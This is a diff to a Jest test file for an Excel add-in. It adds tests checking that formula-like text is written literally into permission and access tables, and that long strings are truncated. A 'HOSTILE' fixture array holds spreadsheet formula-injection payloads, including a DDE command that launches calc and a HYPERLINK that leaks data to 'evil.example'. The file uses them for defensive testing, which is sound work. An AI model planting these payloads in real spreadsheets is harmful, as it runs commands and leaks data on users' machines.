@@ -1,4 +1,5 @@
 import { PERMISSION_LOG_COLUMNS, PERMISSION_LOG_TABLE } from "../../src/core/permission-log";
+import { ACCESS_SHEET, ACCESS_TABLE, ACCESS_TABLE_COLUMNS } from "../../src/core/results";
 import { createExcelWorkbookPort } from "../../src/office/excel-workbook";
 import { installExcelSimulator } from "../excel-sim/install";
 import { WorkbookModel } from "../../workbench/excel-model/model";
@@ -128,6 +129,17 @@ describe("readSelection", () => {
     expect(areas[0]?.besideValues).toEqual(["Granted", "", 42]);
   });
 
+  test("a formula beside the selection is reported by its formula, still in two syncs", async () => {
+    model.setValues("Sheet1", "B1", [
+      ["a@contoso.com", '="Granted: can view"'],
+      ["b@contoso.com", "Granted: can view"],
+    ]);
+    model.select("Sheet1", "B1:B2");
+    const { result, syncs } = await syncsOf(() => port.readSelection());
+    expect(syncs).toBe(2);
+    expect(result.areas[0]?.besideValues).toEqual(['="Granted: can view"', "Granted: can view"]);
+  });
+
   test("numbers, booleans and error values keep their types", async () => {
     model.setValues("Sheet1", "A1", [[12], [true], ["#N/A"]]);
     model.select("Sheet1", "A1:A3");
@@ -241,7 +253,7 @@ describe("flush", () => {
     expect(model.getValues("Permissions", "B4")).toEqual([["c@contoso.com"]]);
   });
 
-  test("log rows and statuses go out together in exactly one sync", async () => {
+  test("log rows and statuses go out in separate syncs (one refused cannot take the other down)", async () => {
     await port.ensureLog();
     model.setValues("Sheet1", "B1", emails(3));
     const { syncs } = await syncsOf(() =>
@@ -250,7 +262,7 @@ describe("flush", () => {
         statuses: [{ sheet: "Sheet1", row: 0, column: 2, text: "Granted" }],
       }),
     );
-    expect(syncs).toBe(1);
+    expect(syncs).toBe(2);
     expect(model.getValues("Sheet1", "C1")).toEqual([["Granted"]]);
     expect(model.tableRows(PERMISSION_LOG_TABLE)).toHaveLength(1);
   });
@@ -302,5 +314,122 @@ describe("flush", () => {
     await expect(
       port.flush({ logRows: [], statuses: [{ sheet: "Gone", row: 0, column: 0, text: "x" }] }),
     ).rejects.toMatchObject({ code: "ItemNotFound" });
+  });
+});
+
+/** Strings from cells and from Graph that Excel would run, or turn into something else, in a General cell. */
+const HOSTILE = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?leak","click")',
+  "-3+3",
+  "+1+1",
+  "@SUM(1,2)",
+  "\t=1+1",
+  "\r=1+1",
+  "\uff1d1+1",
+  "\uff0b1",
+  "\uff0d1",
+  "\uff20SUM(1)",
+  "0123",
+  "TRUE",
+  "#N/A",
+  "12",
+  "'quoted",
+  "plain text",
+];
+
+/** A table of `headers` on `sheet` made the way a person (or an older build) makes one: General cells. */
+function generalTable(sheet: string, name: string, headers: readonly string[]): void {
+  if (!model.findSheet(sheet)) model.addSheet(sheet);
+  model.setValues(sheet, "A1", [[...headers]]);
+  const table = model.addTable(
+    model.sheet(sheet),
+    { rowIndex: 0, columnIndex: 0, rowCount: 1, columnCount: headers.length },
+    true,
+  );
+  model.renameTable(table, name);
+}
+
+/** Every cell of a table's data rows: no formula, and the exact string that was written. */
+function expectExactText(tableName: string, rows: string[][]): void {
+  const info = model.tableInfo(tableName);
+  const sheet = info?.sheet ?? "";
+  expect(model.tableRows(tableName)).toEqual(rows);
+  model.forEachCell(sheet, (_r, _c, cell) => expect(cell.formula).toBeUndefined());
+}
+
+function hostileRows(width: number): string[][] {
+  return HOSTILE.map((text, i) =>
+    Array.from({ length: width }, (_, c) => HOSTILE[(i + c) % HOSTILE.length] ?? text),
+  );
+}
+
+describe("text that Excel could read as a formula", () => {
+  test("lands as the exact text through a Permissions table that already exists with General cells", async () => {
+    generalTable("Permissions", PERMISSION_LOG_TABLE, PERMISSION_LOG_COLUMNS);
+    expect(model.cell("Permissions", "B2").numberFormat).toBe("General");
+    expect(await port.ensureLog()).toBe("Permissions");
+    const rows = hostileRows(PERMISSION_LOG_COLUMNS.length);
+    await port.flush({ logRows: rows, statuses: [] });
+    expectExactText(PERMISSION_LOG_TABLE, rows);
+    // Appending again (a second run) is just as safe.
+    await port.flush({ logRows: rows.slice(0, 3), statuses: [] });
+    expectExactText(PERMISSION_LOG_TABLE, [...rows, ...rows.slice(0, 3)]);
+  });
+
+  test("lands as the exact text through a Current access table that already exists with General cells", async () => {
+    generalTable(ACCESS_SHEET, ACCESS_TABLE, ACCESS_TABLE_COLUMNS);
+    const rows = hostileRows(ACCESS_TABLE_COLUMNS.length);
+    expect(await port.writeAccessTable(rows)).toBe(ACCESS_SHEET);
+    expectExactText(ACCESS_TABLE, rows);
+    await port.writeAccessTable(rows.slice(2, 5));
+    expectExactText(ACCESS_TABLE, rows.slice(2, 5));
+  });
+
+  test("a plain string costs one sync; one that starts like a formula is written after its Text format is read back", async () => {
+    await port.ensureLog();
+    const plain = await syncsOf(() => port.flush({ logRows: [logRow("a@contoso.com")], statuses: [] }));
+    expect(plain.syncs).toBe(1);
+    const hostile = await syncsOf(() => port.flush({ logRows: [logRow("=1+1")], statuses: [] }));
+    expect(hostile.syncs).toBe(2);
+    expect(model.tableRows(PERMISSION_LOG_TABLE).map((r) => r[1])).toEqual(["a@contoso.com", "=1+1"]);
+  });
+
+  test("if the Text format were lost, a formula-like string is left out and reported, never entered", async () => {
+    generalTable("Permissions", PERMISSION_LOG_TABLE, PERMISSION_LOG_COLUMNS);
+    // The host drops every number format write (a protected layout, a host bug): nothing is Text.
+    jest.spyOn(model, "writeNumberFormat").mockImplementation(() => undefined);
+    const report = await port.flush({ logRows: [logRow("=1+1", "fine")], statuses: [] });
+    expect(report).toEqual({ unsafeCells: [{ row: 0, column: 1 }] });
+    const [row] = model.tableRows(PERMISSION_LOG_TABLE);
+    expect(row?.[1]).toBe("");
+    expect(row?.[PERMISSION_LOG_COLUMNS.length - 1]).toBe("fine");
+    model.forEachCell("Permissions", (_r, _c, cell) => expect(cell.formula).toBeUndefined());
+  });
+
+  test("statuses are written as text even into General cells", async () => {
+    model.setValues("Sheet1", "A1", emails(2));
+    await port.flush({
+      logRows: [],
+      statuses: [
+        { sheet: "Sheet1", row: 0, column: 1, text: "-3+3" },
+        { sheet: "Sheet1", row: 1, column: 1, text: "\uff1d1+1" },
+      ],
+    });
+    expect(model.getValues("Sheet1", "B1:B2")).toEqual([["-3+3"], ["\uff1d1+1"]]);
+    expect(model.cell("Sheet1", "B1").formula).toBeUndefined();
+  });
+});
+
+describe("text too long for a cell", () => {
+  test("a 40,000-character string is cut to 1,000 characters ending with an ellipsis, in the log and the status", async () => {
+    await port.ensureLog();
+    const long = "x".repeat(40_000);
+    await port.flush({ logRows: [logRow("a@contoso.com", long)], statuses: [] });
+    await port.flush({ logRows: [], statuses: [{ sheet: "Sheet1", row: 0, column: 1, text: long }] });
+    const note = String(model.tableRows(PERMISSION_LOG_TABLE)[0]?.[PERMISSION_LOG_COLUMNS.length - 1]);
+    expect(note).toHaveLength(1000);
+    expect(note.endsWith("x\u2026")).toBe(true);
+    expect(String(model.cell("Sheet1", "B1").value)).toBe(note);
   });
 });
